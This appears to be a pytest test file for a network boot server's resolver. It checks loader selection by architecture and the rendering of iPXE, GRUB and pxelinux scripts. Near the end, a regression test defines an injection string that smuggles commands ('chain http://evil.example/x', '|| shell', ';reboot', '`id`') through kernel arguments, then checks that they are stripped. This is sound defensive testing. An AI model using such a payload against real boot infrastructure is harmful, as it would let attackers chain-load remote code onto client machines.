"""The boot resolver: first-stage loader per architecture, iPXE scripts, menus and errors."""

import dataclasses
from ipaddress import IPv4Address
from pathlib import Path

import pytest

from bootserverd.config.settings import BootConfig, Config, HttpConfig, Listen, ServerConfig
from bootserverd.model.objects import Defaults, Device, School
from bootserverd.model.objects import InventoryRecords
from bootserverd.model.snapshot import Inventory, Model
from bootserverd.boot.resolver import BootResolver
from tests.fuzz import world
from bootserverd.model.objects import Device

KNOWN = "52:54:00:00:00:01"
DUAL = "52:54:00:00:00:02"
DISABLED = "52:54:00:00:00:03"
ORPHAN = "52:54:00:00:00:04"     # assigned an image that is not published
IMAGE = "bookworm-2026-11-20-101500-amd64"


def make_resolver(**config_changes) -> BootResolver:
    devices = (Device(KNOWN, hostname="class-12", type="thinclient", ip="10.0.0.57", school="s"),
               Device(DUAL, hostname="lab-3", type="laptop", boot_mode="dualboot", kernel_args="nomodeset"),
               Device(DISABLED, hostname="old", enabled=False),
               Device(ORPHAN, hostname="orphan", image="gone-2026-01-01-000000-amd64"))
    directory = InventoryRecords(devices, {"s": School("s", kernel_args="splash")}, Defaults(image=IMAGE, kernel_args="quiet"))
    model = Model(Inventory(directory, {IMAGE: object(), "other-img": object()}, None))
    config = Config(server=ServerConfig(address=IPv4Address("10.0.0.1"), state_dir=Path("/tmp")))
    config = dataclasses.replace(config, **config_changes)
    return BootResolver(config, model)


@pytest.mark.parametrize("arch,loader", [(0, "undionly.kpxe"), (6, "ipxe-i386.efi"), (7, "shimx64.efi"),
                                         (9, "shimx64.efi"), (11, "ipxe-arm64.efi"), (None, "undionly.kpxe")])
def test_first_stage_loader_by_option_93(arch, loader):
    plan = make_resolver().resolve(KNOWN, arch, ipxe=False)
    assert plan.bootfile == loader
    assert plan.next_server == "10.0.0.1" and plan.hostname == "class-12" and plan.reserved_ip == "10.0.0.57"
    assert plan.known and plan.image == IMAGE and plan.error is None


def test_uefi_http_boot_gets_a_url():
    assert make_resolver().resolve(KNOWN, 16, ipxe=False).bootfile == "http://10.0.0.1:8080/tftp/ipxe.efi"


def test_ipxe_gets_its_script_never_ipxe_again():
    resolver = make_resolver()
    for arch in (0, 7, 9):
        plan = resolver.resolve(KNOWN, arch, ipxe=True)
        assert plan.bootfile == "http://10.0.0.1:8080/ipxe/52-54-00-00-00-01.ipxe"
    no_http = make_resolver(http=HttpConfig(enabled=False))
    assert no_http.resolve(KNOWN, 0, ipxe=True).bootfile == "ipxe/52-54-00-00-00-01.ipxe"


def test_unknown_architecture_and_configured_loaders():
    assert make_resolver().resolve(KNOWN, 99, ipxe=False).error == "unsupported client architecture 99"
    pxelinux = make_resolver(boot=BootConfig(loaders=dataclasses.replace(BootConfig().loaders, bios="pxelinux.0")))
    assert pxelinux.resolve(KNOWN, 0, ipxe=False).bootfile == "pxelinux.0"


def test_unknown_clients_menu_or_ignore():
    plan = make_resolver().resolve("52:54:00:99:99:99", 0, ipxe=False)
    assert not plan.known and plan.bootfile == "undionly.kpxe" and plan.hostname is None
    ignoring = make_resolver(boot=BootConfig(unknown_clients="ignore"))
    assert ignoring.resolve("52:54:00:99:99:99", 0, ipxe=False).bootfile == ""
    menu = make_resolver().render("ipxe", "52:54:00:99:99:99", "10.0.0.200").decode()
    assert f"item image0 Boot {IMAGE}" in menu and "item image1 Boot other-img" in menu
    assert "item local Boot from local disk" in menu and "--timeout 5000" in menu


def test_pxelinux_config_for_a_known_device():
    text = make_resolver().render("pxelinux.cfg", KNOWN, "10.0.0.57").decode()
    assert f"KERNEL images/{IMAGE}/vmlinuz" in text and f"INITRD images/{IMAGE}/initrd.img" in text
    assert (f"APPEND root=/dev/nbd0 nbdroot=10.0.0.1:10809/{IMAGE} ip=dhcp ro bootserverd.type=thinclient "
            "systemd.hostname=class-12 quiet splash") in text
    assert "PROMPT 0" in text and "UI menu.c32" not in text   # one entry: boot at once


def test_ipxe_script_fetches_kernel_over_http():
    text = make_resolver().render("ipxe", KNOWN, "10.0.0.57").decode()
    assert text.startswith("#!ipxe\n")
    assert f"kernel http://10.0.0.1:8080/boot/{IMAGE}/vmlinuz initrd=initrd.img root=/dev/nbd0" in text
    assert f"initrd --name initrd.img http://10.0.0.1:8080/boot/{IMAGE}/initrd.img" in text
    assert "goto netboot\n" in text and "choose" not in text
    tftp_only = make_resolver(http=HttpConfig(enabled=False)).render("ipxe", KNOWN, "x").decode()
    assert f"kernel tftp://10.0.0.1/images/{IMAGE}/vmlinuz" in tftp_only


def test_lpxelinux_fetches_kernel_over_http_pxelinux_by_tftp():
    loaders = lambda bios: BootConfig(loaders=dataclasses.replace(BootConfig().loaders, bios=bios))
    text = make_resolver(boot=loaders("lpxelinux.0")).render("pxelinux.cfg", KNOWN, "x").decode()
    assert f"KERNEL http://10.0.0.1:8080/boot/{IMAGE}/vmlinuz" in text
    assert f"INITRD http://10.0.0.1:8080/boot/{IMAGE}/initrd.img" in text
    plain = make_resolver(boot=loaders("pxelinux.0")).render("pxelinux.cfg", KNOWN, "x").decode()
    assert f"KERNEL images/{IMAGE}/vmlinuz" in plain          # pxelinux.0 has no HTTP
    no_http = make_resolver(boot=loaders("lpxelinux.0"), http=HttpConfig(enabled=False))
    assert f"KERNEL images/{IMAGE}/vmlinuz" in no_http.render("pxelinux.cfg", KNOWN, "x").decode()


def test_grub_reads_tftp_or_with_grub_http_tries_http_first():
    text = make_resolver().render("grub.cfg", KNOWN, "x").decode()
    assert "(http," not in text and f"linux /images/{IMAGE}/vmlinuz root=/dev/nbd0" in text
    http_grub = make_resolver(boot=BootConfig(grub_http=True))
    text = http_grub.render("grub.cfg", KNOWN, "x").decode()
    http = f"(http,10.0.0.1:8080)/boot/{IMAGE}"
    assert f"if linux {http}/vmlinuz root=/dev/nbd0" in text and f"initrd {http}/initrd.img" in text
    assert f"linux /images/{IMAGE}/vmlinuz root=/dev/nbd0" in text and f"initrd /images/{IMAGE}/initrd.img" in text
    no_http = make_resolver(boot=BootConfig(grub_http=True), http=HttpConfig(enabled=False))
    assert "(http," not in no_http.render("grub.cfg", KNOWN, "x").decode()


def test_ipxe_client_skips_the_signed_chain():
    """A client running iPXE got past the firmware already: it gets the HTTP script, not shim."""
    plan = make_resolver().resolve(KNOWN, 7, ipxe=True)
    assert plan.bootfile == "http://10.0.0.1:8080/ipxe/52-54-00-00-00-01.ipxe"
    assert make_resolver().resolve(KNOWN, 7, ipxe=False).bootfile == "shimx64.efi"


def test_dualboot_adds_local_boot_and_device_args():
    text = make_resolver().render("grub.cfg", DUAL, "10.0.0.58").decode()
    assert f"menuentry 'Boot {IMAGE}' --id netboot" in text and "menuentry 'Boot from local disk'" in text
    assert f"linux /images/{IMAGE}/vmlinuz" in text and "quiet nomodeset" in text
    assert "set timeout=5" in text


@pytest.mark.parametrize("mac,message", [
    (DISABLED, "device 52:54:00:00:00:03 (old) is disabled"),
    (ORPHAN, "image gone-2026-01-01-000000-amd64 is not published on this boot server")])
def test_errors_render_as_a_menu_that_says_what_is_wrong(mac, message):
    resolver = make_resolver()
    for fmt in ("pxelinux.cfg", "ipxe", "grub.cfg"):
        text = resolver.render(fmt, mac, "10.0.0.9").decode()
        assert message in text, (fmt, text)
        assert "root=/dev/nbd0" not in text
    assert "SAY bootserverd: " + message in resolver.render("pxelinux.cfg", mac, "x").decode()
    assert "set timeout=-1" in resolver.render("grub.cfg", mac, "x").decode()


def test_no_image_anywhere_is_an_error_menu():
    resolver = make_resolver()
    resolver.model.update(records=InventoryRecords((Device(KNOWN),), {}, Defaults()))
    assert "no image is assigned to 52:54:00:00:00:01" in resolver.render("ipxe", KNOWN, "x").decode()


def test_change_in_the_model_is_live():
    resolver = make_resolver()
    resolver.model.update(records=InventoryRecords((Device(KNOWN, image="other-img"),), {}, Defaults()))
    assert "nbdroot=10.0.0.1:10809/other-img" in resolver.render("pxelinux.cfg", KNOWN, "x").decode()


def test_listen_port_changes_reach_the_urls():
    resolver = make_resolver(http=HttpConfig(listen=Listen("0.0.0.0", 80)))
    assert resolver.resolve(KNOWN, 0, True).bootfile == "http://10.0.0.1:80/ipxe/52-54-00-00-00-01.ipxe"


def test_grub_cfg_for_an_unnamed_device_asks_again_by_mac():
    """Debian's grubnetx64.efi reads $prefix/grub.cfg, which names no device: that config
    first loads grub.cfg-01-<MAC of the boot NIC>; the per-device one does not chain again."""
    resolver = make_resolver()
    unnamed = resolver.render("grub.cfg", None, "10.0.0.99").decode()
    assert "configfile $prefix/grub.cfg-01-$net_default_mac" in unnamed
    assert unnamed.index("configfile") < unnamed.index("menuentry")     # before the fallback menu
    named = resolver.render("grub.cfg", KNOWN, "10.0.0.57").decode()
    assert "configfile" not in named and "set timeout=0" in named
    assert f"linux /images/{IMAGE}/vmlinuz root=/dev/nbd0 nbdroot=10.0.0.1:10809/{IMAGE} ip=dhcp" in named


def test_nbdroot_is_the_form_debians_initramfs_reads():
    """nbd-client's initramfs local-top/nbd: `<ipv4>:<port>/<name>` (its last case), with root=/dev/nbd0."""
    text = make_resolver().cmdline(IMAGE, None)
    words = text.split()
    assert words[:3] == ["root=/dev/nbd0", f"nbdroot=10.0.0.1:10809/{IMAGE}", "ip=dhcp"]
    nbdroot = words[1][len("nbdroot="):]
    # the script's parameter expansions, in Python: srv=${x%%[:/]*}; rest=${x#$srv:}; port=${rest%%/*}
    srv = nbdroot.split(":")[0].split("/")[0]
    port, _, name = nbdroot[len(srv) + 1:].partition("/")
    assert (srv, port, name) == ("10.0.0.1", "10809", IMAGE)



def test_ipxe_rom_runs_the_configured_non_ipxe_loader():
    loaders = dataclasses.replace(BootConfig().loaders, bios="pxelinux.0", efi64="grubnetx64.efi")
    resolver = make_resolver(boot=BootConfig(loaders=loaders))
    assert resolver.resolve(KNOWN, 0, ipxe=True).bootfile == "pxelinux.0"
    assert resolver.resolve(KNOWN, 7, ipxe=True).bootfile == "grubnetx64.efi"
    assert make_resolver().resolve(KNOWN, 0, ipxe=True).bootfile.endswith(".ipxe")


# -- regression (fuzz_ldap): kernel arguments from the directory went verbatim into boot
# scripts, so a newline (or iPXE's `||`, GRUB's `;`) in puavoDeviceKernelArguments added a
# command to the iPXE/GRUB/pxelinux config. Fixed in bootserverd/resolver.py (cmdline).

EVIL = "quiet\nchain http://evil.example/x splash || shell ;reboot ${x} \x01ok `id`"


def test_kernel_arguments_cannot_add_a_command():
    device = Device("52:54:00:aa:00:09", hostname="pupil-1", kernel_args=EVIL)
    resolver = world.make_resolver(devices=(device,))
    line = resolver.cmdline(world.IMAGE, device)
    # every word stays a kernel argument; the separators and expansions are gone
    assert line.endswith(" quiet chain http://evil.example/x splash shell ok")
    ipxe = resolver.render("ipxe", device.mac, "10.0.0.5").decode().splitlines()
    kernel = [l for l in ipxe if l.startswith("kernel ")]
    assert len(kernel) == 1 and kernel[0].endswith(line + " || goto netboot_failed")
    assert not any(l.startswith("chain") for l in ipxe)
    for fmt in ("grub.cfg", "pxelinux.cfg"):
        text = resolver.render(fmt, device.mac, "10.0.0.5").decode()
        assert not any(l.lstrip().startswith(("chain", "reboot")) for l in text.splitlines())
        assert "\x01" not in text and "${x}" not in text and ";reboot" not in text


def test_ordinary_kernel_arguments_unchanged():
    device = Device("52:54:00:aa:00:0a", kernel_args="quiet splash acpi_osi=Linux i915.modeset=1 a,b=c:d/e")
    line = world.make_resolver(devices=(device,)).cmdline(world.IMAGE, device)
    assert line.endswith("quiet splash acpi_osi=Linux i915.modeset=1 a,b=c:d/e")
